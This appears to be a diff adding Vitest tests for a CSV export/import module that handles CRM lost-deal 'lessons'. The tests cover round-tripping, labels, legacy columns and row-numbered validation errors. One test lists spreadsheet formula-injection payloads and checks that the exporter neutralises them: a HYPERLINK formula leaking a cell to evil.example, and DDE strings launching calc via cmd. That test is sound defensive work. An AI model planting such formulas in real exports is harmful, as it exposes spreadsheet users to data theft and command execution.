@@ -1,0 +1,145 @@
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { LessonSchema, type Lesson } from '../lessons/schema';
+import { fromCsv, toCsv } from './csv';
+
+let counter = 0;
+function lesson(overrides: Partial<Lesson> = {}): Lesson {
+  counter++;
+  return {
+    id: `3f0e3c5e-8f7a-4d6b-9d1e-${String(counter).padStart(12, '0')}`,
+    createdAt: '2026-01-02T03:04:05.000Z',
+    updatedAt: '2026-01-02T03:04:05.000Z',
+    schemaVersion: 1,
+    crm: 'hubspot',
+    dealId: '42',
+    dealName: 'Acme renewal',
+    dealUrl: 'https://app.hubspot.com/contacts/1/record/0-3/42?tab=notes&x=1',
+    amount: 48000.5,
+    currency: 'USD',
+    company: 'Acme Corp',
+    stageBefore: 'Contract sent',
+    outcome: 'competitor',
+    reason: 'competitor.price-value',
+    answers: { whatHappened: 'They went with Globex.' },
+    ...overrides,
+  };
+}
+
+/** The CSV as a spreadsheet sees it: rows of cells by column name. */
+const rowsOf = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true }).data;
+
+describe('CSV export', () => {
+  it('reads back what it wrote, including awkward text', () => {
+    const lessons = [
+      lesson({
+        dealName: 'Acme, Inc. "Platform" renewal',
+        company: 'Société Générale — 失注 🚀',
+        answers: {
+          whatHappened: 'Line one\nLine two, with a comma\r\nand "quotes"',
+          nextTime: '  keeps its spaces  ',
+        },
+      }),
+      lesson({
+        crm: 'manual',
+        dealId: undefined,
+        dealUrl: undefined,
+        amount: undefined,
+        currency: undefined,
+        company: undefined,
+        stageBefore: undefined,
+        reason: undefined,
+        outcome: 'unknown',
+        answers: {},
+      }),
+      lesson({ amount: 0 }),
+    ];
+    expect(fromCsv(toCsv(lessons))).toEqual({ ok: true, lessons });
+  });
+
+  it('has one row per lesson with readable labels beside the ids', () => {
+    const rows = rowsOf(toCsv([lesson(), lesson({ outcome: 'no-decision', reason: undefined })]));
+    expect(rows).toHaveLength(2);
+    expect(rows[0]).toMatchObject({
+      outcome: 'competitor',
+      outcomeLabel: 'Lost to a competitor',
+      reason: 'competitor.price-value',
+      reasonLabel: 'Price / value',
+      'answers.whatHappened': 'They went with Globex.',
+    });
+    expect(rows[1]).toMatchObject({ outcomeLabel: 'No decision / stalled', reasonLabel: '' });
+  });
+
+  it('shows the free text of an "Other" reason as its label', () => {
+    const rows = rowsOf(
+      toCsv([lesson({ reason: 'other', answers: { reasonOther: 'Acquired by a rival' } })]),
+    );
+    expect(rows[0]).toMatchObject({
+      reasonLabel: 'Acquired by a rival',
+      'answers.reasonOther': 'Acquired by a rival',
+    });
+  });
+
+  it('gives answers to questions no longer asked their own column', () => {
+    const old = lesson({ answers: { whatHappened: 'x', legacyQuestion: 'Old answer' } });
+    const csv = toCsv([old, lesson()]);
+    const header = csv.split(/\r?\n/)[0]!.split(',');
+    expect(header).toContain('answers.legacyQuestion');
+    expect(rowsOf(csv).map((r) => r['answers.legacyQuestion'])).toEqual(['Old answer', '']);
+    const back = fromCsv(csv);
+    expect(back.ok && back.lessons[0]!.answers).toEqual({
+      whatHappened: 'x',
+      legacyQuestion: 'Old answer',
+    });
+  });
+
+  it.each([
+    '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
+    '+1+2',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '=1+1\nsecond line',
+  ])('stops a spreadsheet running %j as a formula, and reads it back as typed', (text) => {
+    const lessons = [lesson({ dealName: text, company: text, answers: { whatHappened: text } })];
+    const csv = toCsv(lessons);
+    const row = rowsOf(csv)[0]!;
+    for (const column of ['dealName', 'company', 'answers.whatHappened']) {
+      expect(row[column]).toBe(`'${text}`);
+    }
+    // As stored: the deal name is trimmed like any typed one.
+    expect(fromCsv(csv)).toEqual({ ok: true, lessons: lessons.map((l) => LessonSchema.parse(l)) });
+  });
+
+  it('leaves text that merely contains = + - @ alone', () => {
+    const text = 'Price: 5-10% off, a+b=c, sales@acme.com';
+    const row = rowsOf(toCsv([lesson({ dealName: text })]))[0]!;
+    expect(row.dealName).toBe(text);
+  });
+
+  it('names the row of a lesson that does not validate', () => {
+    const csv = toCsv([lesson(), lesson({ dealName: 'Second' }), lesson({ outcome: 'unknown' })]);
+    expect(fromCsv(csv.replace('Second', ''))).toEqual({
+      ok: false,
+      error: expect.stringMatching(/^CSV row 3: dealName: /),
+    });
+    expect(fromCsv(csv.replace(',unknown,', ',won,'))).toEqual({
+      ok: false,
+      error: 'CSV row 4: outcome: Choose how the deal ended',
+    });
+  });
+
+  it('names the row where the CSV itself is malformed', () => {
+    const lines = toCsv([lesson(), lesson()]).split('\r\n');
+    lines[2] = 'just,three,cells';
+    const read = fromCsv(lines.join('\r\n'));
+    expect(read.ok).toBe(false);
+    expect(!read.ok && read.error).toMatch(/^CSV row 3: /);
+  });
+
+  it('refuses an amount that is not a number', () => {
+    const csv = toCsv([lesson({ amount: 123.45 })]).replace(',123.45,', ',a lot,');
+    const read = fromCsv(csv);
+    expect(read).toEqual({ ok: false, error: expect.stringMatching(/^CSV row 2: amount: /) });
+  });
+});
